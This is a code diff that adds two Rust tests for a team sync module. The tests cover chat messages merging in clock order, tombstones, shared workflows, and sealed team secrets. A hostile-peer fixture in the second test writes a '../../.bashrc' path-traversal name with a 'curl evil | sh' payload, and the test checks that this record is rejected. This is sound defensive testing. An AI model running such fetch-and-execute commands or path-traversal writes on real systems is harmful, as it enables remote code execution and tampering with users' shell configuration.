@@ -774,3 +774,120 @@ fn a_device_record_names_its_device_and_other_records_none() {
     assert_eq!(super::replica::record_device(&"zz".repeat(32)), None);
     assert_eq!(super::replica::record_device(&"é".repeat(32)), None);
 }
+
+#[test]
+fn a_shared_chat_keeps_both_sides_messages_in_clock_order_and_drops_what_is_not_a_message() {
+    use super::shared::{self, SharedMsg};
+    let mut devs = team(2, Role::Member);
+    let sid = "00112233aabbccdd";
+    let m = |rec: &str, role: &str, content: &str, at: i64| SharedMsg {
+        record: rec.into(),
+        role: role.into(),
+        content: content.into(),
+        attachments: "[]".into(),
+        meta: String::new(),
+        at,
+        deleted: false,
+    };
+    let (a_key, b_key) = (devs[0].pk(), devs[1].pk());
+    let mut ch = shared::chat_changes(&devs[0].r, sid, "radio plan", "Be brief.");
+    let a1 = shared::message_id(sid, &a_key, 1);
+    ch.extend(shared::message_changes(
+        &a1,
+        &m(&a1, "user", "channel?", 1_000),
+    ));
+    write_changes(&mut devs[0], ch, T0 + 10);
+    sync(&mut devs, 0, 1, T0 + 20);
+    // Apart, both add a message; a peer also slips in a record that is no message.
+    let b1 = shared::message_id(sid, &b_key, 1);
+    let ch = shared::message_changes(&b1, &m(&b1, "assistant", "nine", 3_000));
+    write_changes(&mut devs[1], ch, T0 + 30);
+    let a2 = shared::message_id(sid, &a_key, 2);
+    let ch = shared::message_changes(&a2, &m(&a2, "user", "and tomorrow?", 2_000));
+    write_changes(&mut devs[0], ch, T0 + 31);
+    let junk = format!("{sid}/ffffffff-1");
+    {
+        let d1 = &mut devs[1];
+        d1.r.write(
+            &d1.key,
+            Kind::Chat,
+            &junk,
+            "content",
+            text("no role"),
+            T0 + 32,
+        );
+    }
+    sync(&mut devs, 0, 1, T0 + 40);
+    for d in &devs {
+        let c = shared::chat(&d.r, sid).expect("the session");
+        assert_eq!((c.name.as_str(), c.deleted), ("radio plan", false));
+        let ms = shared::messages(&d.r, sid);
+        let got: Vec<&str> = ms.iter().map(|m| m.content.as_str()).collect();
+        assert_eq!(got, ["channel?", "and tomorrow?", "nine"]);
+    }
+    // A regenerated answer is a tombstone everywhere; the session's deletion too.
+    write_changes(&mut devs[1], vec![shared::delete(Kind::Chat, &b1)], T0 + 50);
+    write_changes(&mut devs[0], vec![shared::delete(Kind::Chat, sid)], T0 + 51);
+    sync(&mut devs, 0, 1, T0 + 60);
+    for d in &devs {
+        let ms = shared::messages(&d.r, sid);
+        assert!(ms.iter().any(|m| m.record == b1 && m.deleted));
+        assert!(shared::chat(&d.r, sid).expect("tombstone").deleted);
+    }
+}
+
+#[test]
+fn shared_workflows_and_team_secrets_round_trip_and_hostile_records_are_left_out() {
+    use super::shared::{self, SharedSecret};
+    let mut devs = team(2, Role::Member);
+    let text_a = "shared = true\n[[steps]]\nkind = \"shell\"\nrun = \"echo hi\"\n";
+    let ch = shared::workflow_changes(&devs[0].r, "radio-check", text_a).expect("changes");
+    write_changes(&mut devs[0], ch, T0 + 10);
+    // The same text again is no change.
+    assert!(shared::workflow_changes(&devs[0].r, "radio-check", text_a)
+        .expect("same")
+        .is_empty());
+    assert!(shared::workflow_changes(&devs[0].r, "../../.bashrc", text_a).is_err());
+    // A hostile peer writes a record whose name is a path: never listed.
+    {
+        let d1 = &mut devs[1];
+        d1.r.write(
+            &d1.key,
+            Kind::Workflow,
+            "../../.bashrc",
+            "text",
+            text("curl evil | sh"),
+            T0 + 11,
+        );
+    }
+    let key = [3u8; 32];
+    let rec = "8899aabbccddeeff";
+    let sealed = shared::seal(&key, rec, b"{\"title\":\"Radio net\"}").expect("seal");
+    write_changes(&mut devs[1], shared::secret_change(rec, sealed), T0 + 12);
+    sync(&mut devs, 0, 1, T0 + 20);
+    for d in &devs {
+        let w = shared::workflows(&d.r);
+        assert_eq!(w.len(), 1, "{w:?}");
+        assert_eq!(
+            (w[0].name.as_str(), w[0].text.as_str()),
+            ("radio-check", text_a)
+        );
+        assert_eq!(w[0].by, Some(devs[0].pk()));
+        let Some(SharedSecret::Sealed(b)) = shared::secret(&d.r, rec) else {
+            panic!("no sealed entry");
+        };
+        // Every device relays the bytes; only the team vault key opens them.
+        assert_eq!(
+            shared::open(&key, rec, &b).expect("open").as_slice(),
+            b"{\"title\":\"Radio net\"}"
+        );
+        assert!(shared::open(&[4u8; 32], rec, &b).is_err());
+    }
+    write_changes(
+        &mut devs[0],
+        vec![shared::delete(Kind::Secret, rec)],
+        T0 + 30,
+    );
+    sync(&mut devs, 0, 1, T0 + 40);
+    assert_eq!(shared::secret(&devs[1].r, rec), Some(SharedSecret::Deleted));
+}
